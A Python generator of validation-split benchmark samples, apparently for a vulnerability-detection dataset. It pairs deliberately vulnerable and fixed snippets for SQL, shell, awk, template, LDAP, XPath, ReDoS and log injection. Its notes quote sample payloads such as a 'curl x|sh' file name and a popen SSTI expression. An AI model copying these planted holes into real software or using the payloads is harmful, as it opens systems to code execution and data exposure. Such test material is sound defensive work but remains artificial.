"""Validation snippet families on injection and parsing sinks no other family uses (groups 89, 78, 77,
94, 90, 643, 400/1333, 117): google-cloud-bigquery ``client.query`` with a formatted WHERE clause,
``trio.run_process`` with ``shell=True``, an awk program built around a search term (awk's
``system()`` runs commands), Bottle's ``SimpleTemplate`` compiled from tenant-edited text, ldaptor's
``LDAPEntry.search(filterText=...)`` in a Klein app, ncclient NETCONF XPath filters, pandas
``Series.str.match`` with a nested quantifier over uploaded CSV rows, and JSON audit lines built by
string formatting.

Every family of a ``val_*`` module goes to the validation split (``generate.assign_splits``). Whole
modules (Bottle, Klein) keep the schema's framework kinds in ``Spec.fw`` (Bottle -> flask,
Klein -> script); the notes name the real stack.
"""
from core import Spec, lit
from module_kit import _twin
from registry import fam, hardneg


def _pin(c):
    """Draw the shell's handler name before the builder returns (the twin replays the rng)."""
    c.n("handler")


def _w(c):
    w = "note" if c.word == "profile" else c.word
    return w, w.capitalize()


# ---------------- CWE-89: BigQuery client.query with the value formatted into the SQL ----------------


@fam("val-sqli-bigquery-client-query", "CWE-89", fws=["flask", "django", "fastapi", "pipeline"],
     keys=["region", "campaign", "country", "channel"], n=8)
def sqli_bigquery(c):
    _pin(c)
    x, q, rows = c.x, c.n("query"), c.n("rows")
    table, metric, agg = c.pick(
        ("analytics-prod.sales.daily_orders", "revenue", "SUM(revenue)"),
        ("analytics-prod.marketing.sessions", "sessions", "COUNT(DISTINCT session_id)"),
        ("warehouse-main.events.checkout", "orders", "COUNT(*)"),
    )
    head = f"SELECT DATE(created_at) AS day, {agg} AS {metric} FROM `{table}` WHERE {c.key} = "
    tail = " GROUP BY day ORDER BY day DESC LIMIT 90"
    sql_v = head + "'{}'" + tail
    sql_s = head + "@" + c.key + tail
    run = c.pick("result", "wait")
    if run == "result":
        call = f"{rows} = client.query({q}, job_config=job_config).result(timeout=60)"
    else:
        call = f"{rows} = client.query_and_wait({q}, job_config=job_config, wait_timeout=60)"
    out = f'result = [{{"day": r["day"].isoformat(), "{metric}": float(r["{metric}"] or 0)}} for r in {rows}]'
    v = f"""
        {q} = {c.fmt(sql_v, x)}  #@V
        job_config = bigquery.QueryJobConfig(maximum_bytes_billed=MAX_BYTES_BILLED)
        {call}  #@V
        {out}
    """
    s = f"""
        {q} = {lit(sql_s)}
        job_config = bigquery.QueryJobConfig(
            maximum_bytes_billed=MAX_BYTES_BILLED,
            query_parameters=[bigquery.ScalarQueryParameter("{c.key}", "STRING", {x})],
        )
        {call}
        {out}
    """
    helpers = f'''
        client = bigquery.Client(project=os.environ.get("GCP_PROJECT", "{table.split(".")[0]}"))
        MAX_BYTES_BILLED = {c.pick("10 * 1024**3", "50 * 1024**3", "2 * 1024**4")}
    '''
    return Spec(v=v, s=s, imports="import os\nfrom google.cloud import bigquery", helpers=helpers,
                notes="BigQuery runs the query text as built: a quote in the value closes the string literal and "
                      "the rest (OR TRUE, UNION ALL SELECT ... FROM another dataset) becomes part of the statement; "
                      "the fix uses a named @parameter passed as a ScalarQueryParameter in the job config")


@hardneg(4)
def sqli_bigquery_hn(c):
    x, q, rows = c.x, c.n("query"), c.n("rows")
    shape = c.pick("table-map", "array")
    if shape == "table-map":
        s = f"""
            table = TABLES.get({x})
            if table is None:
                raise ValueError("unknown dataset")
            since = datetime.now(timezone.utc) - timedelta(days=7)
            {q} = f"SELECT COUNT(*) AS n FROM `{{table}}` WHERE created_at >= @since"
            job_config = bigquery.QueryJobConfig(
                query_parameters=[bigquery.ScalarQueryParameter("since", "TIMESTAMP", since)]
            )
            {rows} = list(client.query({q}, job_config=job_config).result(timeout=60))
            result = {rows}[0]["n"]
        """
        helpers = '''
            client = bigquery.Client()
            TABLES = {
                "orders": "analytics-prod.sales.daily_orders",
                "sessions": "analytics-prod.marketing.sessions",
                "checkout": "warehouse-main.events.checkout",
            }
        '''
        imports = "from datetime import datetime, timedelta, timezone\nfrom google.cloud import bigquery"
        notes = "the table name comes from a fixed mapping (identifiers cannot be parameters); the date is a @parameter"
    else:
        s = f"""
            wanted = [part.strip() for part in {x}.split(",") if part.strip()][:50]
            {q} = "SELECT {c.key}, COUNT(*) AS n FROM `analytics-prod.sales.daily_orders` WHERE {c.key} IN UNNEST(@wanted) GROUP BY {c.key}"
            job_config = bigquery.QueryJobConfig(
                query_parameters=[bigquery.ArrayQueryParameter("wanted", "STRING", wanted)]
            )
            {rows} = client.query_and_wait({q}, job_config=job_config)
            result = {{r["{c.key}"]: r["n"] for r in {rows}}}
        """
        helpers = "client = bigquery.Client()"
        imports = "from google.cloud import bigquery"
        notes = "the list of values is passed as an ArrayQueryParameter, the SQL text is constant"
    return Spec(s=s, imports=imports, helpers=helpers, notes=notes)


# ---------------- CWE-78: trio.run_process with a command string and shell=True ----------------


@fam("val-cmdi-trio-run-process-shell", "CWE-78", fws=["pipeline", "pipeline", "cli", "script"],
     keys=["document", "file_name", "attachment"], n=8)
def cmdi_trio(c):
    _pin(c)
    x, cmd = c.x, c.n("cmd")
    tool, tmpl, argv = c.pick(
        ("pdftotext", "pdftotext -layout -enc UTF-8 {} -", '["pdftotext", "-layout", "-enc", "UTF-8", src, "-"]'),
        ("identify", "identify -format '%w %h %m' {}", '["identify", "-format", "%w %h %m", src]'),
        ("sox", "sox --i -D {}", '["sox", "--i", "-D", src]'),
    )
    flags = c.pick("capture_stdout=True, capture_stderr=True, check=False", "capture_stdout=True, check=False")
    v = f"""
        src = os.path.join(INBOX, os.path.basename({x}))
        {cmd} = {c.fmt(tmpl, "src")}  #@V

        async def _probe():
            with trio.fail_after(TIMEOUT_S):
                return await trio.run_process({cmd}, shell=True, {flags})  #@V

        proc = trio.run(_probe)
        result = proc.stdout.decode(errors="replace").strip() if proc.returncode == 0 else None
    """
    s = f"""
        src = os.path.join(INBOX, os.path.basename({x}))
        {cmd} = {argv}

        async def _probe():
            with trio.fail_after(TIMEOUT_S):
                return await trio.run_process({cmd}, {flags})

        proc = trio.run(_probe)
        result = proc.stdout.decode(errors="replace").strip() if proc.returncode == 0 else None
    """
    helpers = f'''
        INBOX = "{c.pick("/srv/ingest/inbox", "/var/lib/{w}/incoming".format(w=c.word), "/data/uploads")}"
        TIMEOUT_S = {c.pick(30, 60, 120)}
    '''
    return Spec(v=v, s=s, imports="import os\nimport trio", helpers=helpers,
                notes=f"trio.run_process with shell=True hands the string to /bin/sh; basename() strips the "
                      f"directory but keeps ; | $( ) and backticks in the file name, so a name like "
                      f"'a.pdf;curl x|sh' runs more commands next to {tool}; the fix passes an argument list "
                      f"without a shell (the path starts with the inbox directory, so it cannot be an option)")


@hardneg(4)
def cmdi_trio_hn(c):
    x = c.x
    shape = c.pick("list", "map")
    if shape == "list":
        s = f"""
            src = os.path.join(INBOX, os.path.basename({x}))

            async def _count_pages():
                with trio.fail_after(30):
                    proc = await trio.run_process(["qpdf", "--show-npages", "--", src], capture_stdout=True)
                return int(proc.stdout)

            result = trio.run(_count_pages)
        """
        helpers = 'INBOX = "/srv/ingest/inbox"'
        notes = "argument list without a shell; the path is ended-off from options with --"
    else:
        s = f"""
            profile = PROFILES[{x}]

            async def _convert():
                return await trio.run_process(["ffmpeg", "-nostdin", "-i", SOURCE, *profile, TARGET], check=True)

            result = trio.run(_convert).returncode
        """
        helpers = '''
            SOURCE = "/srv/media/master.mov"
            TARGET = "/srv/media/out/preview.mp4"
            PROFILES = {"small": ["-vf", "scale=640:-2"], "medium": ["-vf", "scale=1280:-2"]}
        '''
        notes = "the input only selects a fixed argument profile; no shell and no user text in the command"
    return Spec(s=s, imports="import os\nimport trio" if shape == "list" else "import trio", helpers=helpers,
                notes=notes)


# ---------------- CWE-77: awk program text built around a search term ----------------


@fam("val-argi-awk-program-pattern", "CWE-77", fws=["flask", "django", "fastapi", "aiohttp", "pipeline"],
     keys=["pattern", "search", "grep"], n=8)
def argi_awk(c):
    _pin(c)
    x, cmd = c.x, c.n("cmd")
    awk = c.pick("awk", "gawk", "mawk")
    action, post = c.pick(
        ('{ print FNR ": " $0 }', "result = proc.stdout.splitlines()[-200:]"),
        ("{ n++ } END { print n + 0 }", "result = int(proc.stdout.strip() or 0)"),
        ("{ print $1, $4, $7 }", 'result = [line.split(" ") for line in proc.stdout.splitlines()[-200:]]'),
    )
    v = f"""
        {cmd} = ["{awk}", {c.fmt("/{}/ " + action, x)}, LOG_FILE]  #@V
        proc = subprocess.run({cmd}, capture_output=True, text=True, timeout=30, env=AWK_ENV)  #@V
        {post}
    """
    s = f"""
        {cmd} = ["{awk}", {lit('$0 ~ ENVIRON["PAT"] ' + action)}, LOG_FILE]
        proc = subprocess.run({cmd}, capture_output=True, text=True, timeout=30, env={{**AWK_ENV, "PAT": {x}}})
        {post}
    """
    log = c.pick("/var/log/nginx/access.log", "/var/log/{w}/app.log".format(w=c.word), "/srv/logs/gateway.log")
    helpers = f'''
        LOG_FILE = "{log}"
        AWK_ENV = {{"PATH": "/usr/bin:/bin", "LC_ALL": "C"}}
    '''
    return Spec(v=v, s=s, imports="import subprocess", helpers=helpers,
                notes="no shell is involved, but the search term becomes part of the awk program: a term like "
                      "'/ { system(\"id\") } /' closes the regex and adds statements, and awk's system() runs "
                      "commands (print > \"file\" writes files); the fix keeps the program constant and passes the "
                      "term through the environment (ENVIRON[\"PAT\"]), where awk treats it as data")


@hardneg(4)
def argi_awk_hn(c):
    x = c.x
    s = f"""
        column = int({x})
        if not 1 <= column <= 20:
            raise ValueError("column out of range")
        proc = subprocess.run(
            ["awk", "-F", ",", "-v", f"col={{column}}", "NR > 1 {{ print $col }}", EXPORT_CSV],
            capture_output=True, text=True, timeout=30,
        )
        result = proc.stdout.splitlines()[:500]
    """
    return Spec(s=s, imports="import subprocess", helpers='EXPORT_CSV = "/srv/exports/latest.csv"',
                notes="the awk program is a constant; the input is an integer column number passed with -v")


# ---------------- CWE-94: Bottle SimpleTemplate compiled from tenant-edited text ----------------


def _bottle_module(c):
    w, Wc = _w(c)
    x = c.x
    route = c.pick(f"/settings/{w}-email/preview", f"/api/templates/{w}/preview", f"/admin/{w}s/notice/preview")
    fn = c.pick(f"preview_{w}_email", f"render_{w}_preview", "preview_template")
    sample = c.pick(
        '{"name": "Ada Lovelace", "order_id": "A-10023", "total": "42.00"}',
        '{"name": "Grace Hopper", "ticket": "T-5521", "status": "resolved"}',
        '{"name": "Alan Turing", "invoice": "INV-2024-118", "due": "2024-07-01"}',
    )
    kw = c.pick("", ", noescape=True")
    limit = c.pick("20_000", "8192", "50_000")
    mail_import = ""
    if c.pick("preview", "test-mail") == "preview":
        tail = (f'log.info("rendered %s preview for tenant %s", "{w}", tenant.id)\n'
                '            return {"preview": rendered}')
    else:
        mail_import = "from .mail import send_mail\n        "
        tail = (f'send_mail(tenant.admin_email, "Test: {w} notification", rendered)\n'
                '            log.info("sent test %s mail for tenant %s", "' + w + '", tenant.id)\n'
                '            return {"sent_to": tenant.admin_email}')
    v = f'''
        """{Wc} notification templates: tenant admins edit the text of their e-mails and preview it."""
        import logging

        from bottle import Bottle, HTTPError, SimpleTemplate, request

        from .auth import require_tenant_admin
        {mail_import}from .store import save_draft

        log = logging.getLogger(__name__)
        app = Bottle()

        SAMPLE_CONTEXT = {sample}


        @app.post("{route}")
        @require_tenant_admin
        def {fn}(tenant):
            payload = request.json or {{}}
            {x} = payload.get("template", "")  #@S
            if len({x}) > {limit}:
                raise HTTPError(413, "template too long")
            save_draft(tenant.id, "{w}", {x})
            tpl = SimpleTemplate({x}{kw})  #@V
            rendered = tpl.render(**SAMPLE_CONTEXT)
            {tail}
    '''
    s = _twin(v,
              ("import logging\n\n        from bottle import Bottle, HTTPError, SimpleTemplate, request",
               "import logging\n        from string import Template\n\n        from bottle import Bottle, HTTPError, request"),
              (f"tpl = SimpleTemplate({x}{kw})  #@V", f"tpl = Template({x})"),
              ("rendered = tpl.render(**SAMPLE_CONTEXT)", "rendered = tpl.safe_substitute(SAMPLE_CONTEXT)"))
    return v, s


@fam("val-ssti-bottle-simpletemplate", "CWE-94", fws=["bottle", "bottle", "pipeline"],
     keys=["template", "body_template", "message_text"], n=8, wrap=False)
def ssti_bottle(c):
    _pin(c)
    notes = ("Bottle's SimpleTemplate compiles its source to Python: {{...}} evaluates any expression and lines "
             "starting with % are statements, so a tenant-edited template such as "
             "{{__import__('os').popen('id').read()}} runs code on the server; the fix substitutes the "
             "placeholders with string.Template, which only replaces $names")
    if c.fw == "bottle":
        v, s = _bottle_module(c)
        return Spec(v=v, s=s, full=True, fw="flask", notes=notes + "; fw=bottle")
    x = c.x
    ctx = c.pick("order_context()", "ticket_context()")
    v = f"""
        tpl = SimpleTemplate({x})  #@V
        {c.n("result")} = tpl.render(**{ctx})
    """
    s = f"""
        tpl = Template({x})
        {c.n("result")} = tpl.safe_substitute({ctx})
    """
    helpers = '''
        def order_context():
            return {"name": "customer", "order_id": "A-0000", "total": "0.00"}


        def ticket_context():
            return {"name": "customer", "ticket": "T-0000", "status": "open"}
    '''
    return Spec(v=v, s=s, vimports="from bottle import SimpleTemplate", simports="from string import Template",
                helpers=helpers, ret=c.n("result"), notes=notes)


@hardneg(4)
def ssti_bottle_hn(c):
    x = c.x
    if c.fw == "bottle":
        w, Wc = _w(c)
        s = f'''
            """{Wc} notices rendered from the application's own templates."""
            from bottle import Bottle, SimpleTemplate, request

            app = Bottle()

            NOTICE = SimpleTemplate("""Hello {{{{name}}}},
            your {w} {{{{ref}}}} is now {{{{status}}}}.
            """)


            @app.post("/{w}s/notice/preview")
            def preview_notice():
                payload = request.json or {{}}
                name = str(payload.get("name", ""))[:200]
                return {{"preview": NOTICE.render(name=name, ref="{Wc[:2].upper()}-1001", status="ready")}}
        '''
        return Spec(s=s, full=True, fw="flask",
                    notes="SimpleTemplate compiled from a constant of the application; the request value is only "
                          "a template variable (escaped by {{...}}); fw=bottle")
    s = f"""
        tpl = SimpleTemplate(NOTICE_TEMPLATE)
        result = tpl.render(name="customer", body={x}, items=[])
    """
    helpers = '''
        NOTICE_TEMPLATE = """Hello {{name}},

        {{body}}
        % for item in items:
          - {{item}}
        % end
        Thanks for your order."""
    '''
    return Spec(s=s, imports="from bottle import SimpleTemplate", helpers=helpers,
                notes="the SimpleTemplate source is a constant of the application; the input is only a variable "
                      "({{name}} escapes it)")


# ---------------- CWE-90: ldaptor LDAPEntry.search(filterText=...) in a Klein app ----------------


def _klein_module(c, guard=False):
    w, Wc = _w(c)
    x = c.x
    attr, kind, route = c.pick(
        ("uid", "eq", "people"), ("employeeNumber", "eq", "employees"), ("mail", "eq", "by-mail"),
        ("cn", "sub", "search"), ("sn", "sub", "surname"),
    )
    style = c.pick("inline", "async")
    if kind == "eq":
        text = f'f"(&(objectClass=inetOrgPerson)({attr}={{{x}}}))"'
        value = (f'pureldap.LDAPFilter_equalityMatch(\n'
                 f'                    attributeDesc=pureldap.LDAPAttributeDescription("{attr}"),\n'
                 f'                    assertionValue=pureldap.LDAPAssertionValue(value),\n'
                 f'                )')
    else:
        text = f'f"(&(objectClass=inetOrgPerson)({attr}=*{{{x}}}*))"'
        value = (f'pureldap.LDAPFilter_substrings(\n'
                 f'                    type="{attr}", substrings=[pureldap.LDAPFilter_substrings_any(value)]\n'
                 f'                )')
    if style == "inline":
        deco, aw, ret_client = "@defer.inlineCallbacks\n        ", "yield", "return client"
        hdef = "def"
    else:
        deco, aw, ret_client = "", "await", "return client"
        hdef = "async def"
    endpoint = c.pick("tls:host=ldap.corp.example:port=636", "tls:host=dir.internal.example:port=636")
    base = c.pick("ou=people,dc=corp,dc=example", "ou=staff,o=example")
    v = f'''
        """Staff directory lookups for the {w} portal (Klein on Twisted, ldaptor client)."""
        import json
        import os

        from klein import Klein
        from ldaptor.protocols.ldap.ldapclient import LDAPClient
        from ldaptor.protocols.ldap.ldapsyntax import LDAPEntry
        from twisted.internet import defer, endpoints, reactor

        app = Klein()

        LDAP_ENDPOINT = os.environ.get("LDAP_ENDPOINT", "{endpoint}")
        BASE_DN = "{base}"
        BIND_DN = os.environ.get("LDAP_BIND_DN", "cn={w}-portal,ou=services,{base.split(",", 1)[1]}")
        ATTRS = ["cn", "mail", "title", "telephoneNumber"]


        @defer.inlineCallbacks
        def _connect():
            endpoint = endpoints.clientFromString(reactor, LDAP_ENDPOINT)
            client = yield endpoints.connectProtocol(endpoint, LDAPClient())
            yield client.bind(BIND_DN, os.environ["LDAP_BIND_PASSWORD"])
            {ret_client}


        def _text(values):
            return sorted(v.decode("utf-8", "replace") if isinstance(v, bytes) else str(v) for v in values)


        def _as_dict(entry):
            return {{"dn": entry.dn.getText(), **{{a: _text(entry.get(a, [])) for a in ATTRS}}}}


        @app.route("/directory/{route}", methods=["GET"])
        {deco}{hdef} lookup(request):
            {x} = request.args.get(b"q", [b""])[0].decode("utf-8")  #@S
            if not {x}:
                request.setResponseCode(400)
                return json.dumps({{"error": "missing q"}})
            client = {aw} _connect()
            try:
                base = LDAPEntry(client, BASE_DN)
                found = {aw} base.search(filterText={text}, attributes=ATTRS)  #@V
            finally:
                client.unbind()
            request.setHeader(b"Content-Type", b"application/json")
            return json.dumps([_as_dict(e) for e in found[:50]])
    '''
    helper = f'''


        def _person_filter(value):
            return pureldap.LDAPFilter_and([
                pureldap.LDAPFilter_equalityMatch(
                    attributeDesc=pureldap.LDAPAttributeDescription("objectClass"),
                    assertionValue=pureldap.LDAPAssertionValue("inetOrgPerson"),
                ),
                {value},
            ])
'''
    s = _twin(v,
              ("from ldaptor.protocols.ldap.ldapclient import LDAPClient",
               "from ldaptor.protocols import pureldap\n        from ldaptor.protocols.ldap.ldapclient import LDAPClient"),
              ("\n\n\n        @app.route(", helper.rstrip("\n") + "\n\n\n        @app.route("),
              (f"found = {aw} base.search(filterText={text}, attributes=ATTRS)  #@V",
               f"found = {aw} base.search(filterObject=_person_filter({x}), attributes=ATTRS)"))
    if guard:
        allowed = r"[a-z][a-z0-9._-]{0,31}" if attr == "uid" else r"[0-9]{1,10}" if attr == "employeeNumber" else \
            r"[A-Za-z0-9._+-]{1,64}@[A-Za-z0-9.-]{1,190}" if attr == "mail" else r"[A-Za-z][A-Za-z .'-]{0,63}"
        g = _twin(v,
                  ("import json\n        import os\n", "import json\n        import os\n        import re\n"),
                  ('        BASE_DN = "', f'        ALLOWED = re.compile(r"{allowed}")\n        BASE_DN = "'),
                  ('                return json.dumps({"error": "missing q"})\n',
                   '                return json.dumps({"error": "missing q"})\n'
                   f'            if not ALLOWED.fullmatch({x}):\n'
                   '                request.setResponseCode(400)\n'
                   '                return json.dumps({"error": "invalid q"})\n'))
        return v, g
    return v, s


@fam("val-ldapi-ldaptor-filter-text", "CWE-90", fws=["klein"], keys=["q"], n=8, wrap=False)
def ldapi_ldaptor(c):
    v, s = _klein_module(c)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="ldaptor parses filterText as an LDAP filter string; the query parameter is put into it "
                      "unescaped, so '*' matches every entry and ')(' adds conditions (e.g. "
                      "'*)(userPassword=*' or '*)(memberOf=cn=admins,...'), exposing entries and attributes the "
                      "lookup was not meant to reach; the fix builds the filter as pureldap objects, where the "
                      "value is an assertion value and is encoded as data; fw=klein")


@hardneg(4)
def ldapi_ldaptor_hn(c):
    _, s = _klein_module(c, guard=True)
    return Spec(s=s, full=True, fw="script",
                notes="filterText is still built with an f-string, but the value was matched in full against a "
                      "pattern without * ( ) \\ or NUL, so it cannot change the filter's structure")


# ---------------- CWE-643: ncclient NETCONF XPath filter with the interface name ----------------


@fam("val-xpathi-ncclient-netconf-filter", "CWE-643", fws=["flask", "django", "fastapi", "pipeline", "cli"],
     keys=["interface", "ifname", "port"], n=8)
def xpathi_ncclient(c):
    _pin(c)
    x = c.x
    sel = c.pick("xpath", "select", "expr", "xp")
    ns, path = c.pick(
        ('{"if": "urn:ietf:params:xml:ns:yang:ietf-interfaces"}', "/if:interfaces-state/if:interface[if:name='{}']"),
        ('{"if": "urn:ietf:params:xml:ns:yang:ietf-interfaces"}', "/if:interfaces/if:interface[if:name='{}']"),
        ('{"oc-if": "http://openconfig.net/yang/interfaces"}',
         "/oc-if:interfaces/oc-if:interface[oc-if:name='{}']/oc-if:state"),
    )
    op = c.pick("get", "get_config")
    call = (f'reply = m.get(filter=("xpath", (NS, {sel})))' if op == "get" else
            f'reply = m.get_config(source="running", filter=("xpath", (NS, {sel})))')
    conn = ("with manager.connect(host=DEVICE, port=830, username=NETCONF_USER, key_filename=NETCONF_KEY,\n"
            "                             hostkey_verify=True, timeout=30) as m:")
    v = f"""
        {sel} = {c.fmt(path, x)}  #@V
        {conn}
            {call}  #@V
        result = reply.data_xml
    """
    s = f"""
        if not IFNAME_RE.fullmatch({x}):
            raise ValueError("invalid interface name")
        {sel} = {c.fmt(path, x)}
        {conn}
            {call}
        result = reply.data_xml
    """
    helpers = f'''
        DEVICE = os.environ.get("NETCONF_HOST", "{c.pick("core-sw1.mgmt.example", "edge-r2.mgmt.example", "10.255.0.11")}")
        NETCONF_USER = os.environ.get("NETCONF_USER", "noc-readonly")
        NETCONF_KEY = os.environ.get("NETCONF_KEY", "/etc/noc/netconf_ed25519")
        NS = {ns}
        IFNAME_RE = re.compile(r"[A-Za-z0-9/._:-]{{1,64}}")
    '''
    return Spec(v=v, s=s, imports="import os\nimport re\nfrom ncclient import manager", helpers=helpers,
                notes="the device evaluates the XPath select of the NETCONF filter; a name with a quote ends the "
                      "predicate, so \"x' or '1'='1\" returns every interface and \"x'] | /*[local-name()='x\" "
                      "unions in any other subtree of the device data (users, keys, AAA); the fix accepts only "
                      "interface-name characters (no quotes or brackets) before building the expression")


_NC_HELPERS = '''
    DEVICE = os.environ.get("NETCONF_HOST", "core-sw1.mgmt.example")
    NETCONF_KEY = os.environ.get("NETCONF_KEY", "/etc/noc/netconf_ed25519")
    {extra}
'''


@hardneg(2)
def xpathi_ncclient_hn_subtree(c):
    x = c.x
    s = f"""
        root = etree.Element(IF_NS + "interfaces")
        iface = etree.SubElement(root, IF_NS + "interface")
        etree.SubElement(iface, IF_NS + "name").text = {x}
        with manager.connect(host=DEVICE, port=830, username="noc-readonly", key_filename=NETCONF_KEY,
                             hostkey_verify=True, timeout=30) as m:
            reply = m.get_config(source="running", filter=("subtree", root))
        result = reply.data_xml
    """
    helpers = _NC_HELPERS.format(extra='IF_NS = "{urn:ietf:params:xml:ns:yang:ietf-interfaces}"')
    return Spec(s=s, imports="import os\nfrom lxml import etree\nfrom ncclient import manager", helpers=helpers,
                notes="subtree filter built as XML elements; the name is element text, not part of an expression")


@hardneg(2)
def xpathi_ncclient_hn_python(c):
    x = c.x
    s = f"""
        with manager.connect(host=DEVICE, port=830, username="noc-readonly", key_filename=NETCONF_KEY,
                             hostkey_verify=True, timeout=30) as m:
            reply = m.get(filter=("xpath", (NS, "/if:interfaces-state/if:interface")))
        names = reply.data_ele.xpath("//*[local-name()='interface']/*[local-name()='name']/text()")
        result = [n for n in names if n == {x}]
    """
    helpers = _NC_HELPERS.format(extra='NS = {"if": "urn:ietf:params:xml:ns:yang:ietf-interfaces"}')
    return Spec(s=s, imports="import os\nfrom ncclient import manager", helpers=helpers,
                notes="constant XPath filters; the requested name is compared in Python")


# ---------------- CWE-1333: pandas Series.str.match with a nested quantifier on uploaded rows ----------------


@fam("val-redos-pandas-str-match", "CWE-1333", fws=["flask", "django", "fastapi", "pipeline"],
     keys=["csv_text", "rows_csv", "import_csv"], n=8)
def redos_pandas(c):
    _pin(c)
    x = c.x
    col, bad, good = c.pick(
        ("sku", r"^([A-Z0-9]+-?)+$", r"^[A-Z0-9]+(?:-[A-Z0-9]+)*-?$"),
        ("full_name", r"^([A-Za-z]+\s?)+$", r"^[A-Za-z]+(?:\s[A-Za-z]+)*\s?$"),
        ("phone", r"^\+?(\d+[ -]?)+$", r"^\+?\d+(?:[ -]\d+)*[ -]?$"),
    )
    body = """
        frame = pd.read_csv(io.StringIO({x}), dtype=object, nrows=MAX_ROWS, keep_default_na=False)
        if "{col}" not in frame.columns:
            raise ValueError("missing column {col}")
        valid = frame["{col}"].str.strip().str.match(r"{pat}", na=False){mark}
        bad_rows = [int(i) + 2 for i in frame.index[~valid]]
        result = {{"rows": int(len(frame)), "invalid_rows": bad_rows[:100]}}
    """
    v = body.format(x=x, col=col, pat=bad, mark="  #@V")
    s = body.format(x=x, col=col, pat=good, mark="")
    return Spec(v=v, s=s, imports="import io\nimport pandas as pd",
                helpers=f"MAX_ROWS = {c.pick('50_000', '20_000', '100_000')}",
                notes="on object-dtype text (dtype=object) Series.str.match runs Python's backtracking re on every "
                      "uploaded cell; the group with an inner "
                      "+ and an optional separator repeated by an outer + can split a run of characters in "
                      "exponentially many ways, so one cell of ~30 characters that fails at its end stalls the worker; "
                      "the fix uses an unambiguous pattern for the same strings")


@hardneg(4)
def redos_pandas_hn(c):
    x = c.x
    s = f"""
        frame = pd.read_csv(io.StringIO({x}), dtype=str, nrows=50_000, keep_default_na=False)
        codes = frame["sku"].str.strip()
        valid = codes.str.len().le(64) & codes.str.fullmatch(r"[A-Z0-9]+(?:-[A-Z0-9]+)*", na=False)
        result = {{"rows": int(len(frame)), "invalid": int((~valid).sum())}}
    """
    return Spec(s=s, imports="import io\nimport pandas as pd",
                notes="str.fullmatch with a linear pattern (each separator must be followed by a new segment)")


# ---------------- CWE-117: JSON audit line built by string formatting ----------------


@fam("val-logi-handbuilt-json-line", "CWE-117", fws=["flask", "django", "fastapi", "aiohttp", "pipeline"],
     keys=["username", "email", "account_id"], n=8)
def logi_json_line(c):
    _pin(c)
    x = c.x
    event = c.pick("password_reset_requested", "login_failed", "api_key_rotated", "export_downloaded")
    line = c.pick("line", "entry", "record")
    tmpl = '{"ts": "{}", "event": "' + event + '", "' + c.key + '": "{}"}'
    v = f"""
        stamp = datetime.now(timezone.utc).isoformat()
        {line} = {c.fmt(tmpl, "stamp", x)}  #@V
        AUDIT.write({line} + "\\n")  #@V
        result = "recorded"
    """
    s = f"""
        stamp = datetime.now(timezone.utc).isoformat()
        {line} = json.dumps({{"ts": stamp, "event": "{event}", "{c.key}": {x}}})
        AUDIT.write({line} + "\\n")
        result = "recorded"
    """
    target = c.pick("file", "stdout")
    if target == "file":
        helpers = (f'AUDIT = open(os.environ.get("AUDIT_LOG", "/var/log/{c.word}/audit.jsonl"), "a", '
                   f'buffering=1, encoding="utf-8")')
        imports = "import os\nfrom datetime import datetime, timezone"
    else:
        helpers = "# one JSON object per line on stdout; the log shipper parses each line as an event\nAUDIT = sys.stdout"
        imports = "import sys\nfrom datetime import datetime, timezone"
    return Spec(v=v, s=s, imports=imports, simports="import json", helpers=helpers,
                notes="the audit line only looks like JSON: a value with a double quote adds or overrides fields "
                      "('x\", \"event\": \"login_ok') and a newline starts a second, forged event for the log "
                      "pipeline; the fix serialises the record with json.dumps, which escapes quotes and control "
                      "characters")


@hardneg(4)
def logi_json_line_hn(c):
    x = c.x
    shape = c.pick("dumps", "print")
    if shape == "dumps":
        s = f"""
            record = {{"ts": datetime.now(timezone.utc).isoformat(), "event": "login_failed", "{c.key}": {x}}}
            AUDIT.write(json.dumps(record, sort_keys=True) + "\\n")
            result = "recorded"
        """
        helpers = 'AUDIT = open("/var/log/app/audit.jsonl", "a", buffering=1, encoding="utf-8")'
    else:
        s = f"""
            print(json.dumps({{"event": "export_downloaded", "{c.key}": {x}, "ts": time.time()}}), file=AUDIT, flush=True)
            result = "recorded"
        """
        helpers = "AUDIT = sys.stderr"
    imports = ("import json\nfrom datetime import datetime, timezone" if shape == "dumps"
               else "import json\nimport sys\nimport time")
    return Spec(s=s, imports=imports, helpers=helpers, notes="audit record serialised with json.dumps")
